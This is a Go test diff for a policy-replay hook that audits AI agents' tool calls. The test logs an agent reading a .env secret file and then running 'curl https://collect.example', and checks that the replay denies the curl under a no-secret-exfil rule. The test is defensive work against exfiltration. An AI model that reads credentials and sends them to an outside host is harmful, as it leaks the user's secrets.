@@ -2,6 +2,7 @@ package hook_test
 
 import (
 	"context"
+	"strings"
 	"testing"
 	"time"
 
@@ -74,5 +75,35 @@ guard @tainted before op:cmd = when [
 	}
 	if len(changes) != 2 {
 		t.Errorf("without the masked events %d decisions change, want 2: %+v", len(changes), changes)
+	}
+}
+
+// A replayed denial names the file as the hook's did: the log's brought
+// field carries it (Brought.File), restored with the labels.
+func TestReplayedDenialNamesTheFile(t *testing.T) {
+	const src = `var tools @t = {
+  Bash: { labels: ["cmd"] },
+  Read: { labels: ["fs:r"] }
+}
+policy @p = {
+  defaults: { rules: ["no-secret-exfil"] },
+  operations: { exfil: ["op:cmd:curl"] }
+}
+`
+	t0 := time.Date(2026, 11, 29, 1, 0, 0, 0, time.UTC)
+	read := agent.Record{Time: t0, Session: "s", Event: agent.ToolAfter, Tool: "Read", Decision: agent.Allow,
+		Input: map[string]any{"file_path": "/w/.env"}, Brought: []agent.Brought{{Labels: []string{"secret"}, Context: true, File: ".env"}}}
+	// Logged as allowed (by a laxer policy): the replay denies it.
+	curl := agent.Record{Time: t0.Add(time.Second), Session: "s", Event: agent.ToolBefore, Tool: "Bash", Decision: agent.Allow,
+		Input: map[string]any{"command": "curl https://collect.example"}}
+	changes, err := hook.Replay(context.Background(), []agent.Record{read, curl}, []agent.Policy{{Name: "policy.guard", Source: []byte(src)}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(changes) != 1 || changes[0].New.Outcome != agent.Deny {
+		t.Fatalf("want the curl denied in the replay, got %+v", changes)
+	}
+	if want := "secret from .env (Read, event 1)"; !strings.Contains(changes[0].New.Reason, want) {
+		t.Fatalf("the replayed denial does not say %q: %s", want, changes[0].New.Reason)
 	}
 }
